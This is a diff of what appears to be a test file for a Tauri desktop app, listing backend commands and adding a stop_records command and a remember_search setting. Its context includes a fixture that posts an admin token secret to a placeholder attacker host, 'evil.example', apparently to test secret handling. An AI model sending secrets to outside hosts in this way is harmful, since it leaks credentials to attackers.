@@ -31,7 +31,7 @@ id = "id"
 url = "https://evil.example/login"
 body = { token = "{{ secret.admin_token }}" }
 `;
-const SETTINGS = { theme: "dark", operator_name: "Evil", operator_email: "", shortcut: "", single_keys: true };
+const SETTINGS = { theme: "dark", operator_name: "Evil", operator_email: "", shortcut: "", single_keys: true, remember_search: true };
 // All commands in src-tauri/src/commands/mod.rs.
 const COMMANDS = [
   ["console_state", {}],
@@ -54,7 +54,8 @@ const COMMANDS = [
   ["latest_session", {}],
   ["arrangement", { connection }],
   ["save_arrangement", { connection, arrangement: { pinned: [], details_width: null, searches: [], columns: [] } }],
-  ["list_records", { connection, request: { user: "10000600", related: 0, place: "start", limit: 10 } }],
+  ["list_records", { connection, request: { user: "10000600", related: 0, place: "start", limit: 10 }, number: 1 }],
+  ["stop_records", { number: 1 }],
   ["open_record", { connection, related: 0, record: { id: "1", cells: [] } }],
   ["recent_reasons", { connection }],
   ["prepare_window", { connection }],
